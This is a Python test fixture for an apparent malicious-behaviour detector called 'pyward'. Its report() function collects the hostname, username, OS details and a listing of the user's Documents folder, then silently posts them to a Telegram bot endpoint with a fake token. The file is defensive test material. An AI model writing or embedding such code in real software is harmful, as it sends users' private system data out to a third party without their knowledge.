# Inert model for pyward's malicious-behaviour corpus: the bot token is fake and the tests never run
# this file.
import getpass
import os
import platform
import socket

import requests

API = "https://api.telegram.org/bot0000000000:FAKE-TOKEN-FOR-PYWARD-TESTS/sendMessage"
CHAT = "-1000000000000"


def report():
    docs = os.path.join(os.path.expanduser("~"), "Documents")
    listing = "\n".join(sorted(os.listdir(docs))[:200]) if os.path.isdir(docs) else ""
    text = "host=%s user=%s os=%s\n%s" % (socket.gethostname(), getpass.getuser(), platform.platform(), listing)
    try:
        requests.post(API, data={"chat_id": CHAT, "text": text}, timeout=5)
    except requests.RequestException:
        pass
